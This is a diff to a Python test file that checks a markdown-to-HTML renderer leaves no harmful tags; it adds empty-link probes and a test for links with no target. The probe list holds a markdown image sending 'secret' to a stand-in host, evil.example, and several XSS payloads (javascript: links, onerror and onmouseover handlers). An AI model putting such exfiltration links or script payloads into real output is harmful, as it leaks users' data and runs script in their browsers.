@@ -22,6 +22,8 @@ PROBES = (
     "![secret](https://evil.example/?q=secret)",
     "![x][ref]\n\n[ref]: https://evil.example/x.png",
     "<javascript:alert(1)>",
+    "[]()",
+    "[a](<>) [b](https://x.example) [c]( 'title')",
     "[a](https://x.example 'title\" onmouseover=\"alert(1)')",
     "`<img src=x onerror=alert(1)>`",
     "```html\n<img src=x onerror=alert(1)>\n```",
@@ -48,6 +50,12 @@ def test_a_probe_leaves_only_harmless_tags(probe: str) -> None:
 @given(st.lists(st.sampled_from((*PROBES, "a", "\n", "<", '"', "[", "](", ")", "`", "&"))))
 def test_no_mixture_of_probes_gets_through(parts: list[str]) -> None:
     assert tags(to_html("".join(parts))) == []
+
+
+def test_a_link_to_nowhere_is_its_words() -> None:
+    html = to_html("[a *b*]() [c](https://x.example)")
+    assert html.startswith('<p>a <em>b</em> <a href="https://x.example"')
+    assert html.count("</a>") == 1
 
 
 def test_markdown_is_rendered() -> None:
